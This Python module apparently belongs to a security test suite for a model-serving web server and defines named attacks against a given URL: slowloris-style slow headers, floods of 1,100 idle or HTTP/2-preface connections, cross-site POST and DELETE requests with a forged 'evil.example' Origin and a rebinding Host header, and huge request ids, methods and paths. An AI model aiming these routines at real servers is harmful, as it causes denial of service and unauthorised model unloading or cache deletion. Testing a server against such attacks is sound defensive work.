"""Attacks by connections, and by headers that servers repeat, log or trust."""

from __future__ import annotations

import contextlib
import resource
import socket
import time
from typing import Callable, Iterator
from urllib.parse import urlsplit

import requests

# More than a server takes by default.
CONNECTIONS = 1_100

# What an HTTP/2 client sends before its first request: the preface, and a SETTINGS frame without settings (RFC 9113 §3.4).
HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"

EVIL = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"}


def address_of(url: str) -> tuple[str, int]:
    parts = urlsplit(url)
    return parts.hostname or "127.0.0.1", parts.port or 80


@contextlib.contextmanager
def connections(url: str, sent: bytes, count: int = CONNECTIONS) -> Iterator[list[socket.socket]]:
    """So many connections at the same time, each of which has sent these bytes."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = count + 200
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (wanted if hard == resource.RLIM_INFINITY else min(wanted, hard), hard))
    with contextlib.ExitStack() as stack:
        opened = []
        for _ in range(count):
            # A server may close or refuse any of them.
            with contextlib.suppress(OSError):
                connection = stack.enter_context(socket.create_connection(address_of(url), timeout=2))
                connection.sendall(sent)
                opened.append(connection)
        yield opened


def hold(sent: bytes) -> Callable[[str], None]:
    def attack(url: str) -> None:
        with connections(url, sent):
            time.sleep(3)

    return attack


def slow_headers(url: str) -> None:
    """Headers that never end, a byte at a time."""
    with connections(url, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ") as opened:
        for _ in range(10):
            time.sleep(0.5)
            for connection in opened:
                with contextlib.suppress(OSError):
                    connection.sendall(b"x")


def requests_of_another_web_site(url: str) -> None:
    """Requests that a page of another origin can send through a browser without a preflight."""
    paths = ["/v2/repository/models/mnist/unload", "/jobs", "/predict/mnist", "/v2/repository/index", "/web_api/mnist"]
    for path in paths * 20:
        with contextlib.suppress(requests.RequestException):
            requests.post(url + path, data=b"{}", headers={**EVIL, "Content-Type": "text/plain"}, timeout=5)
            requests.get(url, headers={"Host": "rebound.example"}, timeout=5)
            requests.delete(f"{url}/cache/mnist", headers=EVIL, timeout=5)


def long_words(url: str) -> None:
    """Request ids, methods and paths that are repeated in responses and in the log."""
    deadline = time.monotonic() + 5
    session = requests.Session()
    while time.monotonic() < deadline:
        with contextlib.suppress(requests.RequestException):
            session.get(url, headers={"X-Request-Id": "x" * 60_000}, timeout=5)
            session.request("A" * 30_000, f"{url}/predict", timeout=5)
            session.get(f"{url}/{'a' * 50_000}", timeout=5)


ATTACKS = {
    "W1 idle HTTP/2 connections": hold(HTTP2),
    "W1 silent connections": hold(b""),
    "W1 half a preface": hold(HTTP2[:10]),
    "W1 slow headers": slow_headers,
    "H8 requests of another web site": requests_of_another_web_site,
    "W9 long request ids, methods and paths": long_words,
}
